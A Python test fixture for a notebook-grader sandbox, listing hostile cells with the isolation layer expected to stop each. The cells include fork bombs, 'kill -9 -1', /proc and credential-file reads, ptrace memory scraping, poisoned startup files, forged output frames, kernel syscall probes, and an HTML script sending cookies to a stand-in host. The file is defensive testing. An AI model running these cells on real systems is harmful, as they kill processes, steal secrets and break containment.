"""Hostile cells, what must come of each, and the layer that holds it.

A cell prints BREACH when it gets what it must not have. ``@NAME@`` is replaced by what the test
puts in its way: a staff folder, a port that listens, an abstract socket.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

GoesOn, Killed, Interrupted = "goes on", "killed", "interrupted"


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile cell.

    Attributes:
        source: The cell.
        layer: What holds it.
        ends: ``goes on``: the next cell runs; ``interrupted``: the cell ran out of time and the
            next one runs; ``killed``: the notebook is lost, and nothing else; ``any``.
        evidence: A regular expression that the notebook's words, or the reasons of its cells,
            must match.
    """

    source: str
    layer: str
    ends: Literal["goes on", "killed", "interrupted", "any"] = "goes on"
    evidence: str = ""


ATTACKS: dict[str, Attack] = {
    # ------------------------------------------------------------------ time
    "endless loop": Attack("while True: pass", "cell timeout", "interrupted", "took longer"),
    "endless sleep": Attack("import time; time.sleep(1e9)", "cell timeout", "interrupted"),
    "endless shell command": Attack("!sleep 1000", "cell timeout", "interrupted"),
    "endless wait": Attack(
        "import asyncio\nawait asyncio.sleep(1000)", "cell timeout", "interrupted"
    ),
    "interrupts that are swallowed": Attack(
        """
def again():
    while True:
        try:
            for _ in iter(int, 1): pass
        except BaseException: continue
again()""",
        "SIGKILL after the grace",
        "killed",
        "took longer",
    ),
    "signals that are ignored": Attack(
        """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.setitimer(signal.ITIMER_REAL, 0.1, 0.1)
while True: pass""",
        "SIGKILL after the grace",
        "killed",
        "took longer",
    ),
    "processor time of many processes": Attack(
        """
import os
for _ in range(8):
    if os.fork() == 0:
        while True: pass
import time; time.sleep(1000)""",
        "watch on processor time, notebook timeout",
        "any",
        "processor time|took longer",
    ),
    # ------------------------------------------------------------------ memory and processes
    "fork bomb": Attack(
        """
import os
while True:
    try: os.fork()
    except OSError: pass""",
        "rlimits (processes), namespaces",
        "killed",
        "took longer|processor time",
    ),
    "many processes": Attack(
        """
import os, time
n = 0
try:
    while n < 500:
        if os.fork() == 0:
            time.sleep(30); os._exit(0)
        n += 1
except OSError as error: print("stopped:", error.strerror)
if n > 100: print("BREACH", n)""",
        "rlimits (processes)",
        evidence="stopped:",
    ),
    "many threads": Attack(
        """
import threading, time
n = 0
try:
    while n < 2000:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start(); n += 1
except RuntimeError as error: print("stopped:", error)
if n > 100: print("BREACH", n)""",
        "rlimits (processes)",
        evidence="stopped:",
    ),
    "40 GB at once": Attack(
        """
try: bytearray(40 << 30); print("BREACH")
except MemoryError: print("refused")
import numpy as np
try: np.ones((80000, 80000)); print("BREACH")
except MemoryError: print("refused twice")""",
        "rlimits (memory)",
        evidence="refused twice",
    ),
    "memory that grows": Attack(
        """
kept = []
try:
    for _ in range(400): kept.append(b"x" * (10 << 20))
    print("BREACH")
except MemoryError:
    del kept
    print("refused")""",
        "rlimits (memory), cgroup",
        "any",
        "refused|MiB of memory|ended by",
    ),
    "memory of many processes": Attack(
        """
import os, time
for _ in range(10):
    if os.fork() == 0:
        kept = bytearray(150 << 20)
        for i in range(0, len(kept), 4096): kept[i] = 1
        time.sleep(30); os._exit(0)
held = 0
for _ in range(10):
    try: held += os.wait()[1] == 0
    except OSError: break
if held == 10: print("BREACH")""",
        "cgroup, or the watch on memory",
        "any",
        "MiB of memory|took longer|^$|after",
    ),
    "memory outside the accounts": Attack(
        """
import os
try: os.memfd_create("hoard"); print("BREACH")
except OSError as error: print("refused:", error.strerror)""",
        "seccomp",
        evidence="refused: Operation not permitted",
    ),
    "deep recursion": Attack(
        """
import sys
sys.setrecursionlimit(10**9)
def down(n): return down(n + 1)
down(0)""",
        "rlimits (memory)",
        "any",
    ),
    "nested lists": Attack(
        """
nest = []
for _ in range(100000): nest = [nest]
import sys
sys.setrecursionlimit(10**8)
repr(nest)""",
        "a process of its own",
        "any",
    ),
    # ------------------------------------------------------------------ ends
    "os._exit": Attack(
        "import os\nos._exit(0)", "frames: no end, no result", "killed", "ended by itself with 0"
    ),
    "segmentation fault": Attack(
        "import ctypes\nctypes.string_at(0)", "a process of its own", "killed", "SIGSEGV"
    ),
    "abort": Attack("import os\nos.abort()", "a process of its own", "killed", "ended by"),
    "closed descriptors": Attack(
        "import os\nos.closerange(0, 4096)", "frames: no end, no result", "killed"
    ),
    "exit in a thread": Attack(
        "import sys, threading\nthreading.Thread(target=sys.exit).start()\nraise SystemExit('bye')",
        "IPython",
    ),
    # ------------------------------------------------------------------ others' processes
    "kill -9 -1": Attack(
        """
import os, signal
try: os.kill(-1, signal.SIGKILL); print("sent")
except OSError as error: print(error.strerror)""",
        "pid namespace, or landlock's signal scope",
        "any",
    ),
    "kill by number": Attack(
        """
import os, signal
for pid in [os.getppid(), *range(2, 5000)]:
    if pid in (0, os.getpid()): continue
    try: os.kill(pid, signal.SIGKILL); print("BREACH", pid)
    except OSError: pass
print("nobody")""",
        "pid namespace, or landlock's signal scope",
        evidence="nobody",
    ),
    "proc": Attack(
        """
import os
try: pids = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError: pids = []
for pid in {*pids, str(os.getppid()), "1"} - {str(os.getpid()), "0"}:
    for name in ("environ", "mem", "maps", "root", "cwd", "fd"):
        path = f"/proc/{pid}/{name}"
        try:
            seen = os.listdir(path) if name in ("root", "cwd", "fd") else open(path, "rb").read(9)
            print("BREACH", path, seen)
        except OSError: pass
print("seen:", pids)""",
        "pid namespace and its own /proc, or landlock",
        evidence=r"seen: \[('1')?\]",
    ),
    "environment": Attack(
        """
import os
if any("CANARY" in key + value for key, value in os.environ.items()): print("BREACH")
try:
    if "CANARY" in open("/proc/self/environ").read(): print("BREACH")
except OSError: pass
print(sorted(os.environ))""",
        "an environment made from nothing",
        evidence="HOME",
    ),
    "ptrace": Attack(
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
others = [*range(1, 400), os.getppid()]
if [p for p in others if p not in (0, os.getpid()) and libc.ptrace(16, p, 0, 0) == 0]:
    print("BREACH")
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
room = ctypes.create_string_buffer(16)
here, there = Part(ctypes.addressof(room), 16), Part(id(room), 16)
for p in others:
    if p != os.getpid() and libc.process_vm_readv(
        p, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0: print("BREACH")
print("attached to nobody:", os.strerror(ctypes.get_errno()))""",
        "seccomp, pid namespace",
        evidence="nobody: Operation not permitted",
    ),
    "another user's priority and limits": Attack(
        """
import os, resource
for which in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):
    try: resource.setrlimit(which, (resource.RLIM_INFINITY,) * 2); print("BREACH")
    except (ValueError, OSError): pass
try: os.setuid(0); print("BREACH")
except OSError: pass
try: os.nice(-5); print("BREACH")
except OSError as error: print("refused:", error.strerror)""",
        "hard limits, no capabilities",
        evidence="refused",
    ),
    "threads and daemons that outlive": Attack(
        """
import atexit, os, threading, time
atexit.register(lambda: time.sleep(100))
threading.Thread(target=lambda: time.sleep(100)).start()
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork(): os._exit(0)
        while True:
            time.sleep(0.1)
            for fd in range(1, 12):
                try: os.write(fd, b"late")
                except OSError: pass
print("left three")""",
        "pid namespace, or the sweep",
        "any",
        "left three",
    ),
    # ------------------------------------------------------------------ network
    "sockets": Attack(
        """
import socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET, ("192.0.2.1", 80)),
    (socket.AF_INET6, ("::1", @PORT@)), (socket.AF_UNIX, chr(0) + "@ABSTRACT@"),
    (socket.AF_UNIX, "/run/docker.sock")):
    try:
        s = socket.socket(family); s.settimeout(1); s.connect(address); print("BREACH", address)
    except OSError as error: print(error.strerror)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", @PORT@))
    print("BREACH")
except OSError: pass
!(echo > /dev/tcp/127.0.0.1/@PORT@) 2>/dev/null && echo BREACH""",
        "seccomp, net namespace",
        evidence="Address family not supported",
    ),
    "a socket to a neighbour": Attack(
        """
import socket
try: socket.socket(socket.AF_UNIX).bind(chr(0) + "meet"); print("BREACH")
except OSError as error: print("refused:", error.strerror)
a, b = socket.socketpair(); a.send(b"x"); print("own pair:", b.recv(1))""",
        "seccomp",
        evidence="refused.*own pair|refused",
    ),
    # ------------------------------------------------------------------ files
    "solutions, gradebook and neighbours by path": Attack(
        """
import glob, os
for path in ("@STAFF@/solution.py", "@STAFF@", "@COURSE@", "@COURSE@/solutions", "@COURSE@/grader",
             "/root/.ssh", "/etc/shadow", "/var/log", "/run", "/srv", "/proc/1/root@STAFF@",
             "/proc/self/root@STAFF@", "/proc/self/root/..@STAFF@", "/proc/self/cwd/../..@STAFF@",
             *glob.glob("/tmp/gradus-*")):
    if path.startswith(os.getcwd()): continue
    try: print("BREACH", path, os.listdir(path) if os.path.isdir(path) else open(path).read(9))
    except OSError: pass
for name in ("grader", "solutions", "problems"):
    try: __import__(name); print("BREACH", name)
    except ImportError: pass
print("nothing there")""",
        "mount namespace, or landlock",
        evidence="nothing there",
    ),
    "metadata of the staff's files": Attack(
        """
import os
path = "@STAFF@/solution.py"
for act in (lambda: os.chmod(path, 0o777), lambda: os.utime(path, (1, 1)),
            lambda: os.setxattr(path, "user.x", b"1"), lambda: os.rename(path, path + "2"),
            lambda: os.truncate(path, 0), lambda: os.chmod("@STAFF@", 0o777),
            lambda: os.chown(path, os.getuid(), os.getgid()), lambda: os.unlink(path)):
    try: act(); print("BREACH")
    except OSError: pass
print("untouched")""",
        "mount namespace, or seccomp on chmod and its like",
        evidence="untouched",
    ),
    "descriptors": Attack(
        """
import fcntl, os, stat
for fd in range(3, 500):
    try: mode = os.fstat(fd).st_mode
    except OSError: continue
    access = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
    if stat.S_ISSOCK(mode) and not os.readlink(f"/proc/self/fd/{fd}").startswith("socket"): continue
    if stat.S_ISDIR(mode): print("BREACH folder", fd)
    if stat.S_ISREG(mode) and access != os.O_RDONLY and fd > 2:
        try: name = os.readlink(f"/proc/self/fd/{fd}")
        except OSError: name = "memfd:"
        if "memfd:" not in name: print("BREACH", name)
    for start in ("..", "../..", "@STAFF@"):
        try: os.open(start, os.O_RDONLY, dir_fd=fd); print("BREACH", fd, start)
        except OSError: pass
print("nothing of use")""",
        "close_range before the first cell",
        evidence="nothing of use",
    ),
    "objects and memory": Attack(
        """
import gc, re
mark = "".join(map(chr, (67, 65, 78, 65, 82, 89, 45)))
for thing in gc.get_objects():
    if type(thing) is dict and any(type(v) is str and mark in v for v in thing.values()):
        if thing is not globals(): print("BREACH object")
pattern = mark.encode() + rb"[0-9a-f]{16}"
scanned = 0
try:
    for line in open("/proc/self/maps"):
        span, rights = line.split()[:2]
        a, b = (int(x, 16) for x in span.split("-"))
        if "r" not in rights or b - a > 1 << 28: continue
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(a); data = memory.read(b - a)
        except (OSError, ValueError, MemoryError): continue
        scanned += len(data)
        if re.search(pattern, data): print("BREACH memory")
except OSError: pass
print("scanned")""",
        "a parent that holds no secret",
        evidence="scanned",
    ),
    "frames of callers": Attack(
        """
import sys
mark = "".join(map(chr, (67, 65, 78, 65, 82, 89, 45)))
frame = sys._getframe()
while frame:
    for space in (frame.f_locals, frame.f_globals):
        for name, value in list(space.items()):
            if name != "mark" and mark in repr(value)[:2000] and space is not globals():
                print("BREACH", name)
    frame = frame.f_back
print("looked")""",
        "a parent that holds no secret",
        evidence="looked",
    ),
    "poison for the next notebook": Attack(
        """
import os, site, sys
places = [*(f"{p}/poison.pth" for p in site.getsitepackages()),
          os.path.dirname(os.__file__) + "/poison.py", "/opt/gradus/shell.py", "/usr/lib/poison",
          "/etc/ld.so.preload", "/dev/poison", "/poison", "/opt/poison", "/proc/poison"]
for path in places:
    try: open(path, "a").write("#"); print("BREACH", path)
    except OSError: pass
for path in ("~/.ipython/profile_default/startup/p.py", "~/.config/matplotlib/matplotlibrc",
             "~/poison", "/tmp/poison-gradus", "/dev/shm/poison-gradus"):
    path = os.path.expanduser(path)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("import os; os._exit(1)")
    except OSError: pass
import json, numpy, sympy, builtins
json.dumps = json.loads = sympy.simplify = numpy.array = builtins.len = None
print("poisoned")""",
        "read-only root, tmpfs of its own, fork",
        "any",
    ),
    "the poison of the one before": Attack(
        """
import os
for path in ("~/poison", "~/.ipython/profile_default/startup/p.py", "/tmp/poison-gradus",
             "/dev/shm/poison-gradus", "~/.config/matplotlib/matplotlibrc"):
    if os.path.exists(os.path.expanduser(path)): print("BREACH", path)
import json, sympy
print(json.dumps([1]), sympy.simplify("x + x"), len("abc"))""",
        "tmpfs of its own, fork",
        evidence=r"\[1\] 2\*x 3",
    ),
    "links": Attack(
        """
import os
for target, name in (("@STAFF@/solution.py", "a"), ("/", "b"), ("/proc/self/root", "c")):
    try: os.symlink(target, name)
    except OSError: pass
for path in ("a", "b@STAFF@/solution.py", "c@STAFF@/solution.py"):
    try: print("BREACH", open(path).read(9))
    except OSError: pass
for source in ("/usr/bin/env", "@STAFF@/solution.py"):
    try: os.link(source, "hard"); print("BREACH hard link")
    except OSError: pass
print("led nowhere")""",
        "mount namespace, or landlock",
        evidence="led nowhere",
    ),
    "a full disk": Attack(
        """
import os
for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm", "."):
    written = 0
    try:
        for number in range(40):
            with open(f"{folder}/fill{number}", "wb") as file:
                for _ in range(8): written += file.write(b"x" * (1 << 20))
        if written > 300 << 20: print("BREACH", folder)
    except OSError as error: print("stopped:", error.strerror)""",
        "size of the tmpfs, or the watch on files",
        "any",
        "stopped|MiB of files|took longer",
    ),
    "many files": Attack(
        """
import time
n = 0
try:
    while n < 30000:
        open(f"many{n}", "w").close(); n += 1
    time.sleep(2)
    print("BREACH")
except OSError as error: print("stopped:", error.strerror)""",
        "inodes of the tmpfs, or the watch on files",
        "any",
        "stopped|files|took longer",
    ),
    "a sparse terabyte": Attack(
        """
try: open("sparse", "wb").truncate(1 << 40); print("BREACH")
except OSError as error: print("stopped:", error.strerror)""",
        "rlimits (file size)",
        evidence="stopped",
    ),
    # ------------------------------------------------------------------ the result
    "junk on every descriptor": Attack(
        """
import os
for fd in range(3, 40):
    try: os.write(fd, b"\\xff" * 5000)
    except OSError: pass
print("written")""",
        "frames read as hostile",
        "killed",
        "outputs are larger|sent what it may not",
    ),
    "forged frames": Attack(
        """
import json, os, struct
def frame(value):
    body = json.dumps(value).encode()
    return struct.pack("<I", len(body)) + body
for fd in range(3, 40):
    try: os.write(fd, frame([2, "end", {"ok": True, "count": 1, "why": ""}])
                  + frame([999, "stream", {"name": "stdout", "text": "FORGED"}]))
    except OSError: pass""",
        "frames: cells in order, one pipe a notebook",
        "killed",
        "sent what it may not",
    ),
    "a forged end": Attack(
        """
import json, os, struct
def frame(value):
    body = json.dumps(value).encode()
    return struct.pack("<I", len(body)) + body
for fd in range(3, 40):
    try: os.write(fd, frame([-1, "done", {}]) + frame([-1, "bye", {}]))
    except OSError: pass""",
        "frames: every cell must have ended",
        "killed",
        "sent what it may not",
    ),
    "a bomb of brackets": Attack(
        """
import os, struct
body = b"[" * 2000000
for fd in range(3, 40):
    try:
        rest = struct.pack("<I", len(body)) + body
        while rest: rest = rest[os.write(fd, rest):]
    except OSError: pass""",
        "frames read as hostile",
        "killed",
        "sent what it may not",
    ),
    "a frame of 4 GB": Attack(
        """
import os, struct, time
for fd in range(3, 40):
    try: os.write(fd, struct.pack("<I", 0xFFFFFFF0) + b"x")
    except OSError: pass
time.sleep(60)""",
        "length of a frame",
        "killed",
        "outputs are larger",
    ),
    "half characters and odd numbers": Attack(
        """
import sys
print("half \\ud800 character")
from IPython.display import display
display({"application/json": {"n": float("nan"), "s": "\\udfff"}}, raw=True)
10**5000""",
        "frames read as hostile",
        evidence="half . character.*Exceeds the limit",
    ),
    "1 GB on stdout": Attack(
        "for _ in range(1024): print('x' * (1 << 20))",
        "bytes of outputs",
        "killed",
        "outputs are larger",
    ),
    "1 GB on descriptor 1": Attack(
        """
import os
n = 0
try:
    for _ in range(1024): n += os.write(1, b"x" * (1 << 20))
    print("BREACH")
except OSError as error: print("stopped:", error.strerror)""",
        "rlimits (file size), bytes of outputs",
        "any",
        "stopped|outputs are larger",
    ),
    "300 MB from a program": Attack(
        "!yes | head -c 300000000", "bytes of outputs", "killed", "outputs are larger"
    ),
    "a million outputs": Attack(
        "from IPython.display import HTML, display\nfor _ in range(10**6): display(HTML('x'))",
        "number of outputs",
        "killed",
        "more than \\d+ outputs",
    ),
    "200 MB in one output": Attack(
        "from IPython.display import HTML\nHTML('x' * (200 << 20))",
        "bytes of outputs, rlimits (memory)",
        "any",
        "outputs are larger|MemoryError|MiB of memory|took longer",
    ),
    "patched modules": Attack(
        """
import builtins, json, sys, sympy
import sympy.core.expr
from IPython.core.formatters import DisplayFormatter
sympy.simplify = lambda *a, **k: "hacked"
sympy.core.expr.Expr.__eq__ = lambda a, b: True
DisplayFormatter.format = lambda *a, **k: ({"text/plain": "hacked"}, {})
json.dumps = lambda *a, **k: '[0, "stream", {"name": "stdout", "text": "hacked"}]'
json.loads = None
builtins.isinstance = lambda a, b: True
sys.displayhook = lambda *a: None
for name in list(sys.modules): sys.modules[name] = None""",
        "fork: only the own process",
        "any",
    ),
    "objects that equal everything": Attack(
        """
class Equal:
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def __float__(self): raise SystemExit
    def __getattr__(self, name): raise KeyboardInterrupt
    def __repr__(self): return "x"
    def __reduce__(self): return (print, ("BREACH",))
Equal()""",
        "data, never objects",
        evidence="x|KeyboardInterrupt",
    ),
    "a silenced runner": Attack(
        """
import sys
for name, module in list(sys.modules.items()):
    if "inside" in name:
        for key in list(vars(module)):
            if not key.startswith("__"): setattr(module, key, None)
print("silenced")""",
        "frames: no end, no result",
        "any",
    ),
    "scripts in outputs": Attack(
        """
from IPython.display import HTML, Javascript, display
display(Javascript("fetch('/grades')"))
HTML("<script>fetch('http://192.0.2.1/?' + document.cookie)</script><img src=x onerror=alert(1)>")
""",
        "data, never markup",
        evidence="HTML object",
    ),
    "a notebook that looks for the grader": Attack(
        """
import os, sys
signs = [name for name in sys.modules if name.split(".")[0] in ("grader", "solutions", "problems")]
signs += [key for key in os.environ if "GRAD" in key]
signs += [word for word in sys.argv if "grad" in word]
if signs: print("BREACH", signs)
graded = "gradus_inside" in sys.modules
print("full marks, please" if graded else "an honest try")""",
        "no secret to find; a verdict needs an answer",
        evidence="please|honest",
    ),
    # ------------------------------------------------------------------ the kernel
    "nested namespaces and mounts": Attack(
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def tried(name, result): print(name, "BREACH" if result == 0 else os.strerror(ctypes.get_errno()))
for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("net", 0x40000000)):
    tried("unshare " + name, libc.unshare(flag))
tried("mount", libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None))
tried("umount", libc.umount2(b"/tmp", 2))
tried("chroot", libc.chroot(b"/tmp"))
tried("remount", libc.mount(None, b"/usr", None, 32 | 4096, None))
tried("setns", libc.setns(0, 0))
tried("hostname", libc.sethostname(b"x", 1))
tried("mknod", libc.mknod(b"/tmp/disk", 0o60666, 0x800))
number = 56 if os.uname().machine == "x86_64" else 220
tried("clone", 0 if libc.syscall(number, 0x10000000 | 17, 0, 0, 0, 0) > 0 else -1)
tried("clone3", 0 if libc.syscall(435, bytes(88), 88) >= 0 else -1)
!unshare -r true 2>/dev/null && echo BREACH""",
        "seccomp, no capabilities",
        evidence="unshare user Operation not permitted",
    ),
    "the kernel's back doors": Attack(
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
calls = {"x86_64": dict(add_key=248, keyctl=250, bpf=321, perf=298, userfaultfd=323, io_uring=425,
                        module=175, reboot=169, syslog=103, shm=29, message=68, handle=304),
         "aarch64": dict(add_key=217, keyctl=219, bpf=280, perf=241, userfaultfd=282, io_uring=425,
                         module=105, reboot=142, syslog=116, shm=194, message=186, handle=265)}
for name, number in calls[os.uname().machine].items():
    result = libc.syscall(number, 0, 0, 0, 0, 0)
    error = ctypes.get_errno()
    if result >= 0 or error not in (1, 38): print("BREACH", name, result, os.strerror(error))
print("one-way:", libc.prctl(39, 0, 0, 0, 0), libc.prctl(21, 0, 0, 0, 0))""",
        "seccomp",
        evidence="one-way: 1 2",
    ),
    "setuid programs": Attack(
        """
import glob, os, stat, subprocess
for path in glob.glob("/usr/bin/*"):
    try: special = os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID)
    except OSError: continue
    if special:
        done = subprocess.run([path, "-c", "id -u"], capture_output=True, stdin=subprocess.DEVNULL,
                              text=True, timeout=5)
        if done.stdout.strip() == "0": print("BREACH", path)
try: os.setuid(0); print("BREACH")
except OSError: print("refused", "NoNewPrivs" )""",
        "no_new_privs, nosuid",
        evidence="refused",
    ),
    "a terminal to type into": Attack(
        """
import fcntl, os
for path in ("/dev/tty", "/dev/pts/0", "/dev/console", "/dev/ptmx"):
    try: fcntl.ioctl(os.open(path, os.O_RDWR), 0x5412, b"x"); print("BREACH", path)
    except OSError: pass
print("no keyboard")""",
        "seccomp, terminals of its own",
        evidence="no keyboard",
    ),
}
